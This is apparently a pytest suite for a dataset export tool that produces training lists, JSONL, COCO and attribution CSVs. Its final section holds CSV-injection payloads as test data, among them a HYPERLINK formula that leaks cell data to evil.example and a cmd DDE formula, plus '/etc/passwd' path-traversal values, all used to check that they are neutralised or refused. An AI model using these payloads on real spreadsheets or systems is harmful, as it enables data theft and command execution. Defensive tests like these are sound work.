"""`oibeam export` over real snapshots: every format read back with a standard
reader (tarfile, json, csv), reruns byte-identical, bad runs refused.

Two snapshots of one release are built per module on the FaultServer
(tests/support/snapshot_release.py), with failing images, machine and human
labels, a Rotation, and 13-column box CSVs: one with --boxes, one without.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import tarfile
from dataclasses import dataclass
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from oibeam.schemas.boxes import BOX_COORDINATES, BOX_FLAGS, BOX_REQUIRED
from oibeam.schemas.tables import LABEL_STRUCT
from oibeam.tools.export.attribution import Attribution, license_name
from oibeam.tools.export.training_list import LabelRule, positive_labels

from support.runs import run_cli
from support.snapshot_release import FLAGS, Photo, Release, shard_paths

SNAPSHOT_FLAGS = [
    *FLAGS,
    "--shard-bytes",
    "2500",
    # Trainable: a train machine positive. /m/car has none (it is on
    # validation images, and a human's on one train image), so it is not.
    "--min-train-images",
    "1",
    "--min-validation-images",
    "0",
]
CAT, DOG, CAR, BIRD = "/m/cat", "/m/dog", "/m/car", "/m/bird"
IDS = [f"{i:016x}" for i in (0x1A, 0x2B, 0x3C, 0x4D, 0x5E, 0x6F, 0x70, 0x81, 0x92)]
GONE, CHANGED, UNAVAILABLE = IDS[1], IDS[4], IDS[7]
# (ImageID, label, confidence) rows of source `human`, beside the machine's.
HUMAN = [(IDS[0], DOG, 0), (IDS[2], CAR, 1), (IDS[3], CAT, 1)]
ROTATED = IDS[3]  # Rotation 90: stored 40 x 30, upright 30 x 40
# ImageID -> [(label, (XMin, XMax, YMin, YMax), IsGroupOf)]. Bird is not in
# the classes file; the dog's only box is on an image that fails.
BOXES = {
    IDS[0]: [(CAT, (0.1, 0.5, 0.2, 0.9), 1), (CAT, (0.5, 0.75, 0.0, 0.5), 0)],
    ROTATED: [(CAR, (0.25, 1.0, 0.1, 0.6), 0)],
    IDS[6]: [(CAT, (0.0, 1.0, 0.0, 1.0), -1)],
    IDS[8]: [(BIRD, (0.2, 0.4, 0.2, 0.4), 0)],
    GONE: [(DOG, (0.1, 0.2, 0.1, 0.2), 0)],
}


def _photos() -> list[Photo]:
    train = [(CAT, 0.9), (DOG, 0.6)]
    labels = {
        IDS[0]: [(CAT, 0.9), (DOG, 0.8)],  # a human says: no dog
        IDS[2]: [(CAT, 0.9), (DOG, 0.0)],  # a human adds a car
        IDS[6]: [(CAR, 0.7), (CAT, 0.3)],
        IDS[7]: [(CAR, 0.7), (CAT, 0.3)],
        IDS[8]: [(CAR, 0.7), (CAT, 0.3)],
    }
    routes = {
        GONE: "/status/404/{name}",
        CHANGED: "/wrong/{name}",
        UNAVAILABLE: "/placeholder/{name}",
    }
    return [
        Photo(
            image_id,
            seed=n,
            labels=labels.get(image_id, train),
            route=routes.get(image_id, "/img/{name}"),
            subset="validation" if n >= 6 else "train",
        )
        for n, image_id in enumerate(IDS)
    ]


def _write_release(release: Release) -> list[str]:
    """The release's CSVs plus human labels, a Rotation column and boxes;
    returns the CLI flags (--boxes last)."""
    flags = release.write()
    with open(flags[3], "a", newline="") as f:
        csv.writer(f).writerows((i, "human", m, c) for i, m, c in HUMAN)
    images = Path(flags[1])
    with images.open(newline="") as f:
        rows = list(csv.reader(f))
    rows[0].append("Rotation")
    for row in rows[1:]:
        row.append("90" if row[0] == ROTATED else "0")
    with images.open("w", newline="") as f:
        csv.writer(f).writerows(rows)
    boxes = images.parent / "annotations-human-bbox.csv"
    with boxes.open("w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow([*BOX_REQUIRED, *BOX_FLAGS])
        assert BOX_REQUIRED[4:] == BOX_COORDINATES
        for image_id, items in sorted(BOXES.items()):
            for label, (x0, x1, y0, y1), group_of in items:
                writer.writerow(
                    [image_id, "xclick", label, 1, x0, x1, y0, y1, 0, 0, group_of]
                    + [0, -1]
                )
    return [*flags, "--boxes", str(boxes)]


@dataclass(frozen=True)
class Built:
    root: Path  # snapshot ROOT: `s1` made with --boxes, `plain` without
    flags: list[str]  # the release's --images/--labels/--classes/--boxes


@pytest.fixture(scope="module")
def built(fault_server, tmp_path_factory) -> Built:
    base = tmp_path_factory.mktemp("export")
    release = Release(fault_server, base / "release", "export")
    for photo in _photos():
        release.add(photo)
    flags = _write_release(release)
    root = base / "root"
    assert (
        run_cli(
            "snapshot",
            *flags[:-2],
            "--output",
            root,
            "--snapshot-id",
            "plain",
            *SNAPSHOT_FLAGS,
        )
        == 0
    )
    assert (
        run_cli(
            "snapshot", *flags, "--output", root, "--snapshot-id", "s1", *SNAPSHOT_FLAGS
        )
        == 0
    )
    return Built(root, flags)


@pytest.fixture
def run_dir(built, tmp_path) -> Path:
    """A private copy of snapshot s1 (exports are written into it)."""
    shutil.copytree(built.root, tmp_path / "root")
    return tmp_path / "root" / "s1"


def images_rows(run: Path) -> dict[str, dict]:
    rows = pq.read_table(run / "tables" / "images").to_pylist()
    return {r["ImageID"]: r for r in rows}


def ok_ids(run: Path) -> list[str]:
    return sorted(i for i, r in images_rows(run).items() if r["status"] == "ok")


def tar_members(run: Path) -> dict[str, bytes]:
    """{shards/<tar>/<member>: bytes} of every shard, read with tarfile."""
    members = {}
    for path in shard_paths(run):
        with tarfile.open(path) as tar:
            for member in tar.getmembers():
                data = tar.extractfile(member).read()
                members[f"{os.path.relpath(path, run)}/{member.name}"] = data
    return members


def _tar(shard: str) -> str:
    """A shard index's shard as a path relative to its run: a snapshot's are
    in its root's pool."""
    return f"../{shard}" if shard.startswith("pool/") else f"shards/{shard}"


def files_under(directory: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(directory)): p.read_bytes()
        for p in sorted(directory.rglob("*"))
        if p.is_file()
    }


def training_list(out: Path, subset: str) -> dict[str, dict[str, str]]:
    """{member reference: {mid: confidence text}} of tencent/<subset>.txt."""
    classes = (out / "tencent" / "classes.tsv").read_text().splitlines()
    mids = [line.split("\t")[0] for line in classes]
    found = {}
    for line in (out / "tencent" / f"{subset}.txt").read_text().splitlines():
        path, *labels = line.split("\t")
        assert path not in found and labels
        pairs = [item.split(":") for item in labels]
        indices = [int(i) for i, _ in pairs]
        assert indices == sorted(indices)
        found[path] = {mids[i]: c for i, (_, c) in zip(indices, pairs, strict=True)}
    return found


def export(*args) -> int:
    return run_cli("export", *args)


def test_every_format_reads_back(run_dir, capsys):
    assert export(run_dir.parent, "--format", "all") == 0  # ROOT: follows LATEST
    printed = capsys.readouterr().out
    out = run_dir / "exports"
    ok = ok_ids(run_dir)
    assert ok == [i for i in IDS if i not in (GONE, CHANGED, UNAVAILABLE)]
    assert "exported 6 ok images" in printed
    assert "skipped 3 not ok (changed 1, gone 2)" in printed
    assert sorted(p.name for p in out.iterdir()) == [
        "attribution",
        "coco",
        "jsonl",
        "tencent",
    ]
    members = tar_members(run_dir)
    rows = images_rows(run_dir)
    index = {
        r["ImageID"]: r for r in pq.read_table(run_dir / "shards" / "index").to_pylist()
    }

    # Training lists: a line per ok image, naming its member of its shard,
    # with its positive labels only (a human 0 silences the machine's dog).
    classes = (out / "tencent" / "classes.tsv").read_text()
    assert classes == f"{CAR}\tCar\n{CAT}\tCat\n{DOG}\tDog\n"
    train, validation = training_list(out, "train"), training_list(out, "validation")
    refs = {p.rsplit("/", 1)[1].removesuffix(".jpg"): p for p in [*train, *validation]}
    assert sorted(refs) == ok
    for image_id, path in refs.items():
        assert path == f"{_tar(index[image_id]['shard'])}/{image_id}.jpg"
        assert path in members
    assert train == {
        refs[IDS[0]]: {CAT: "0.9"},
        refs[IDS[2]]: {CAR: "1", CAT: "0.9"},
        refs[IDS[3]]: {CAT: "1", DOG: "0.6"},
        refs[IDS[5]]: {CAT: "0.9", DOG: "0.6"},
    }
    assert validation == {
        refs[IDS[6]]: {CAR: "0.7", CAT: "0.3"},
        refs[IDS[8]]: {CAR: "0.7", CAT: "0.3"},
    }
    assert list(train) == [refs[i] for i in (IDS[0], IDS[2], IDS[3], IDS[5])]
    assert not (out / "tencent" / "test.txt").exists()

    # JSONL: one object per ok image in ImageID order; none for the failures.
    with (out / "jsonl" / "images.jsonl").open() as f:
        objects = [json.loads(line) for line in f]
    assert [o["ImageID"] for o in objects] == ok
    for o in objects:
        place, row = index[o["ImageID"]], rows[o["ImageID"]]
        assert o["path"] == refs[o["ImageID"]]
        for key in ("shard", "member", "offset", "size"):
            assert o[key] == place[key]
        with (run_dir / _tar(o["shard"])).open("rb") as shard:
            shard.seek(o["offset"])
            assert shard.read(o["size"]) == members[o["path"]]
        for key in ("Subset", "OriginalMD5", "OriginalSize", "License", "Author"):
            assert o[key] == row[key]
        for key in ("Rotation", "upright_width", "upright_height", "labels", "boxes"):
            assert o[key] == row[key]
        assert (o["width"], o["height"], o["format"]) == (40, 30, "JPEG")
        assert not {"status", "attempts", "elapsed_ms", "error"} & set(o)

    # Attribution: a row per ok image with the release's values.
    with (out / "attribution" / "attribution.csv").open(newline="") as f:
        attribution = list(csv.DictReader(f))
    assert [r["ImageID"] for r in attribution] == ok
    for r in attribution:
        for key in ("Author", "AuthorProfileURL", "License", "OriginalLandingURL"):
            assert r[key] == rows[r["ImageID"]][key]
        assert r["Title"] == f"photo {r['ImageID']}"
    licenses = (out / "attribution" / "LICENSES.txt").read_text()
    assert "6 images, under 1 license(s)" in licenses
    assert "6  CC BY 2.0  (https://creativecommons.org/licenses/by/2.0/)" in licenses


def test_reruns_replace_files_and_are_deterministic(run_dir, tmp_path, capsys):
    out = run_dir / "exports"
    assert export(run_dir, "--format", "tencent", "--format", "jsonl") == 0
    first = files_under(out)
    assert set(first) == {
        "tencent/classes.tsv",
        "tencent/train.txt",
        "tencent/validation.txt",
        "jsonl/images.jsonl",
    }
    # Left by an earlier export of the format, or by a killed one.
    (out / "tencent" / "test.txt").write_text("stale\n")
    (out / "tencent" / ".tmp-0123-train.txt").write_text("half")
    capsys.readouterr()
    assert export(run_dir, "--format", "tencent", "--format", "jsonl") == 0
    assert "removed 2 stale file(s)" in capsys.readouterr().out
    assert files_under(out) == first

    # Elsewhere, with the sort spread over many buckets: the same bytes.
    other = tmp_path / "elsewhere"
    flags = ["--format", "tencent", "--format", "jsonl", "--bucket-rows", "2"]
    assert export(run_dir, *flags, "--output", other) == 0
    assert files_under(other) == first

    # Other options: the files are replaced, and one with no line is gone.
    assert export(run_dir, "--format", "tencent", "--source", "human") == 0
    assert "4 ok image(s) have no positive label" in capsys.readouterr().out
    assert sorted(p.name for p in (out / "tencent").iterdir()) == [
        "classes.tsv",
        "train.txt",
    ]
    assert training_list(out, "train") == {
        p: labels
        for p, labels in {
            _ref(run_dir, IDS[2]): {CAR: "1"},
            _ref(run_dir, IDS[3]): {CAT: "1"},
        }.items()
    }
    assert files_under(out)["jsonl/images.jsonl"] == first["jsonl/images.jsonl"]


def _ref(run: Path, image_id: str) -> str:
    shard = {
        r["ImageID"]: r["shard"]
        for r in pq.read_table(run / "shards" / "index").to_pylist()
    }[image_id]
    return f"{_tar(shard)}/{image_id}.jpg"


@pytest.mark.parametrize(
    ("flags", "expected"),
    [
        (
            ["--source", "machine"],
            {
                IDS[0]: {CAT: "0.9", DOG: "0.8"},
                IDS[2]: {CAT: "0.9"},
                IDS[3]: {CAT: "0.9", DOG: "0.6"},
                IDS[5]: {CAT: "0.9", DOG: "0.6"},
                IDS[6]: {CAR: "0.7", CAT: "0.3"},
                IDS[8]: {CAR: "0.7", CAT: "0.3"},
            },
        ),
        (
            ["--source", "machine", "--min-confidence", "0.65"],
            {
                IDS[0]: {CAT: "0.9", DOG: "0.8"},
                IDS[2]: {CAT: "0.9"},
                IDS[3]: {CAT: "0.9"},
                IDS[5]: {CAT: "0.9"},
                IDS[6]: {CAR: "0.7"},
                IDS[8]: {CAR: "0.7"},
            },
        ),
        (
            ["--trainable-only"],
            {
                IDS[0]: {CAT: "0.9"},
                IDS[2]: {CAT: "0.9"},
                IDS[3]: {CAT: "1", DOG: "0.6"},
                IDS[5]: {CAT: "0.9", DOG: "0.6"},
                IDS[6]: {CAT: "0.3"},
                IDS[8]: {CAT: "0.3"},
            },
        ),
    ],
)
def test_training_list_options(run_dir, flags, expected):
    assert export(run_dir, "--format", "tencent", *flags) == 0
    out = run_dir / "exports"
    found = training_list(out, "train") | training_list(out, "validation")
    assert found == {_ref(run_dir, i): v for i, v in expected.items()}
    mids = [line.split("\t")[0] for line in (out / "tencent" / "classes.tsv").open()]
    assert mids == sorted({m for labels in expected.values() for m in labels})


def test_refuses_what_it_cannot_export(built, run_dir, tmp_path, capsys):
    tables = tmp_path / "tables-run"
    assert run_cli("tables", *built.flags[:-2], "--output", tables) == 0
    capsys.readouterr()
    assert export(tables, "--format", "jsonl") == 2
    error = capsys.readouterr().err
    assert "`tables` run" in error and "oibeam snapshot" in error
    assert not (tables / "exports").exists()

    # An ok image the shard index does not place: nothing is written.
    index = sorted((run_dir / "shards" / "index").glob("*.parquet"))[0]
    pq.write_table(pq.read_table(index).slice(1), index)
    assert export(run_dir, "--format", "all") == 2
    assert "have no row in shards/index" in capsys.readouterr().err
    assert not [p for p in (run_dir / "exports").rglob("*") if p.is_file()]

    assert export(tmp_path / "nothing", "--format", "jsonl") == 2
    assert "no manifest.json" in capsys.readouterr().err
    with pytest.raises(SystemExit):
        export(tables, "--format", "csv")


def test_coco_needs_a_run_with_boxes(built, tmp_path, capsys):
    shutil.copytree(built.root / "plain", tmp_path / "plain")
    plain = tmp_path / "plain"  # made without --boxes: the column is null
    assert export(plain, "--format", "coco") == 2
    assert "--boxes" in capsys.readouterr().err
    assert not (plain / "exports").exists()
    assert export(plain, "--format", "all") == 0
    assert "coco skipped" in capsys.readouterr().out
    assert sorted(p.name for p in (plain / "exports").iterdir()) == [
        "attribution",
        "jsonl",
        "tencent",
    ]
    # A run from before boxes existed: no column at all.
    for part in (plain / "tables" / "images").glob("*.parquet"):
        pq.write_table(pq.read_table(part).drop_columns(["boxes"]), part)
    assert export(plain, "--format", "coco") == 2
    assert "--boxes" in capsys.readouterr().err


def read_coco(out: Path, subset: str) -> dict:
    with (out / "coco" / f"{subset}.json").open() as f:
        return json.load(f)


def test_coco_from_a_snapshot_with_boxes(run_dir, tmp_path):
    assert export(run_dir, "--format", "coco", "--output", tmp_path / "a") == 0
    out = tmp_path / "a"
    assert sorted(p.name for p in (out / "coco").iterdir()) == [
        "train.json",
        "validation.json",
    ]
    rows = images_rows(run_dir)
    members = tar_members(run_dir)
    ok = ok_ids(run_dir)
    train, validation = read_coco(out, "train"), read_coco(out, "validation")
    # Only labels with a box on an ok image (no dog: its box is on a failed
    # image); a label missing from the classes file is named by its mid.
    categories = [
        {"id": 1, "name": BIRD, "mid": BIRD},
        {"id": 2, "name": "Car", "mid": CAR},
        {"id": 3, "name": "Cat", "mid": CAT},
    ]
    images, annotations = {}, []
    for coco, subset in ((train, "train"), (validation, "validation")):
        assert coco["categories"] == categories
        assert coco["licenses"] == [
            {
                "id": 1,
                "name": "CC BY 2.0",
                "url": "https://creativecommons.org/licenses/by/2.0/",
            }
        ]
        ids = [i["open_images_id"] for i in coco["images"]]
        assert ids == [i for i in ok if rows[i]["Subset"] == subset]
        for image in coco["images"]:
            row = rows[image["open_images_id"]]
            images[image["id"]] = image
            assert image["file_name"] in members
            assert image["file_name"].endswith(f"/{image['open_images_id']}.jpg")
            assert (image["width"], image["height"], image["rotation"]) == (
                row["upright_width"],
                row["upright_height"],
                row["Rotation"],
            )
            assert image["license"] == 1
        annotations += coco["annotations"]
    # Image ids: 1.. in ImageID order across the files; annotation ids too.
    assert [images[k]["open_images_id"] for k in sorted(images)] == ok
    assert sorted(images) == list(range(1, len(ok) + 1))
    assert [a["id"] for a in annotations] == list(range(1, 6))

    wanted = [(i, box) for i in ok for box in rows[i]["boxes"]]
    assert len(annotations) == len(wanted) == 5
    mids = {c["id"]: c["mid"] for c in categories}
    for a, (image_id, box) in zip(annotations, wanted, strict=True):
        assert images[a["image_id"]]["open_images_id"] == image_id
        assert mids[a["category_id"]] == box["label"]
        assert a["bbox"] == [
            box["x_min_px"],
            box["y_min_px"],
            box["x_max_px"] - box["x_min_px"],
            box["y_max_px"] - box["y_min_px"],
        ]
        assert a["area"] == a["bbox"][2] * a["bbox"][3]
        assert a["iscrowd"] == (1 if box["is_group_of"] else 0)
        assert (a["is_group_of"], a["is_occluded"], a["is_inside"]) == (
            box["is_group_of"],
            False,
            None,
        )
        assert (a["source"], a["confidence"]) == ("xclick", 1.0)
    assert [a["iscrowd"] for a in annotations] == [0, 1, 0, 0, 0]
    # The car: 0.25..1.0 of 40 px, 0.1..0.6 of 30 px, in the image turned 90
    # degrees counterclockwise (30 x 40).
    turned = next(i for i in images.values() if i["open_images_id"] == ROTATED)
    assert (turned["width"], turned["height"], turned["rotation"]) == (30, 40, 90)
    car = next(a for a in annotations if mids[a["category_id"]] == CAR)
    assert car["bbox"] == pytest.approx([3.0, 0.0, 15.0, 30.0])

    # Deterministic: again, elsewhere, over many buckets.
    flags = ["--format", "coco", "--bucket-rows", "2", "--output", tmp_path / "b"]
    assert export(run_dir, *flags) == 0
    assert files_under(tmp_path / "b") == files_under(out)


def test_exports_on_gcs(built, run_dir, gcs_emulator, tmp_path):
    """gs:// in and out: ROOT followed through LATEST, the same bytes as a
    local export, a stale object swept."""
    bucket = gcs_emulator.create_bucket("oibeam-exports")
    for path in sorted(built.root.rglob("*")):
        if path.is_file() and not path.name.startswith("."):
            name = f"root/{path.relative_to(built.root)}"
            bucket.blob(name).upload_from_filename(str(path))
    bucket.blob("out/tencent/test.txt").upload_from_string("stale\n")
    out = f"gs://{bucket.name}/out"
    assert export(f"gs://{bucket.name}/root", "--format", "all", "--output", out) == 0
    assert export(run_dir, "--format", "all", "--output", tmp_path / "local") == 0
    exported = {
        b.name.removeprefix("out/"): b.download_as_bytes()
        for b in bucket.list_blobs(prefix="out/")
    }
    assert exported == files_under(tmp_path / "local")


# --- pure functions -------------------------------------------------------


def _labels(*images) -> pa.Array:
    names = {CAT: "Cat", DOG: "Dog", CAR: "Car"}
    return pa.array(
        [
            [
                {
                    "label": m,
                    "display_name": names[m],
                    "source": s,
                    "confidence": c,
                    "inferred_from": None,
                }
                for m, s, c in image
            ]
            for image in images
        ],
        pa.list_(LABEL_STRUCT),
    )


def _positives(labels, **rule) -> list[tuple]:
    table = positive_labels(labels, LabelRule(**rule))
    return list(
        zip(
            table["row"].to_pylist(),
            table["label"].to_pylist(),
            table["confidence"].to_pylist(),
            strict=True,
        )
    )


def test_positive_labels_by_source():
    labels = _labels(
        [(DOG, "machine", 0.8), (DOG, "human", 0.0), (CAT, "machine", 0.4)],
        [],
        [(CAR, "verification", 1.0), (CAR, "machine", 0.2), (CAT, "human", 1.0)],
        [(DOG, "machine", 0.0)],
    )
    assert _positives(labels) == [(0, CAT, 0.4), (2, CAR, 1.0), (2, CAT, 1.0)]
    assert _positives(labels, source="machine") == [
        (0, CAT, 0.4),
        (0, DOG, 0.8),
        (2, CAR, 0.2),
    ]
    assert _positives(labels, source="human") == [(2, CAR, 1.0), (2, CAT, 1.0)]
    assert _positives(labels, source="machine", min_confidence=0.5) == [(0, DOG, 0.8)]
    assert _positives(labels, allowed=frozenset({CAT})) == [
        (0, CAT, 0.4),
        (2, CAT, 1.0),
    ]
    # Two sources of one kind on one label: one entry, the highest confidence.
    twice = _labels([(CAR, "verification", 1.0), (CAR, "human", 1.0)])
    assert _positives(twice, source="human") == [(0, CAR, 1.0)]


def test_license_names():
    assert license_name("https://creativecommons.org/licenses/by/2.0/") == "CC BY 2.0"
    assert (
        license_name("https://creativecommons.org/licenses/by-nc-sa/4.0/")
        == "CC BY-NC-SA 4.0"
    )
    assert license_name("http://creativecommons.org/publicdomain/zero/1.0/") == (
        "CC0 1.0"
    )
    assert license_name("https://example.com/mine") == "https://example.com/mine"


# --- CSV injection, manifests that cannot be trusted ------------------------

# Text a spreadsheet would run as a formula (OWASP: cells starting with = + -
# @, a tab or a carriage return), and text it would not.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=1,"2"\n=3',
]
HARMLESS = ["Some, Author", ' a "quoted" =1', "'=1 already quoted", "x=1", "", None]


def test_attribution_keeps_release_text_from_running_as_a_formula(tmp_path):
    texts = FORMULAS + HARMLESS
    n = len(texts)
    table = pa.table(
        {
            "ImageID": [f"{i:016x}" for i in range(n)],
            "Author": texts,
            "AuthorProfileURL": texts[::-1],
            "License": texts,
            "OriginalLandingURL": texts[::-1],
            "Title": texts,
        }
    )
    exporter = Attribution()
    exporter.start(str(tmp_path))
    exporter.write(table)
    exporter.finish()
    with (tmp_path / "attribution.csv").open(newline="") as f:
        raw = f.read()
    with (tmp_path / "attribution.csv").open(newline="") as f:
        rows = list(csv.DictReader(f))

    def shown(text: str | None) -> str:
        if text is None:
            return ""  # absent: an empty, unquoted field
        return "'" + text if text in FORMULAS else text

    assert [r["ImageID"] for r in rows] == table["ImageID"].to_pylist()
    for field in ("Author", "AuthorProfileURL", "License", "OriginalLandingURL"):
        assert [r[field] for r in rows] == [shown(t) for t in table[field].to_pylist()]
    assert [r["Title"] for r in rows] == [shown(t) for t in texts]
    # Each is one quoted field, the quotes inside doubled: no cell of its own
    # starts with what it holds.
    assert '"\'=1,""2""\n=3"' in raw and '"\'\t=1+1"' in raw
    # The license counts are of the licenses as the release gives them.
    summary = (tmp_path / "LICENSES.txt").read_text()
    assert "  =cmd|' /C calc'!A0" in summary


def test_attribution_of_a_real_run_and_jsonl_keep_text_apart(run_dir):
    """Through `oibeam export`: attribution.csv neutralises a formula, the
    JSONL (not a spreadsheet's format) keeps the release's text as it is."""
    author = '=HYPERLINK("http://evil.example/","credit")'
    for part in (run_dir / "tables" / "images").glob("*.parquet"):
        table = pq.read_table(part)
        where = table.schema.get_field_index("Author")
        authors = pa.array([author] * table.num_rows, table.schema.field(where).type)
        pq.write_table(table.set_column(where, "Author", authors), part)
    assert export(run_dir, "--format", "attribution", "--format", "jsonl") == 0
    out = run_dir / "exports"
    with (out / "attribution" / "attribution.csv").open(newline="") as f:
        assert {r["Author"] for r in csv.DictReader(f)} == {"'" + author}
    with (out / "jsonl" / "images.jsonl").open() as f:
        assert {json.loads(line)["Author"] for line in f} == {author}


@pytest.mark.parametrize(
    "path",
    ["/../../etc/passwd", "/etc/passwd", "tables/images/../../../../etc/passwd"],
)
def test_refuses_a_manifest_that_names_a_file_outside_the_run(run_dir, capsys, path):
    manifest_path = run_dir / "manifest.json"
    manifest = json.loads(manifest_path.read_text())
    manifest["tables"]["images"]["files"][0]["path"] = path
    manifest_path.write_text(json.dumps(manifest))
    capsys.readouterr()
    assert export(run_dir, "--format", "all") == 2
    error = capsys.readouterr().err.strip()
    assert error.startswith("oibeam export: error: ") and "\n" not in error
    assert f"{path!r} is not a path inside the run's directory" in error
    assert not (run_dir / "exports").exists()


@pytest.mark.parametrize("text", ["[]", "not json", '{"tables": {}}'])
def test_refuses_a_manifest_that_is_not_one(run_dir, capsys, text):
    (run_dir / "manifest.json").write_text(text)
    capsys.readouterr()
    assert export(run_dir, "--format", "all") == 2
    error = capsys.readouterr().err.strip()
    assert error.startswith("oibeam export: error: ") and "\n" not in error
    assert "manifest.json" in error
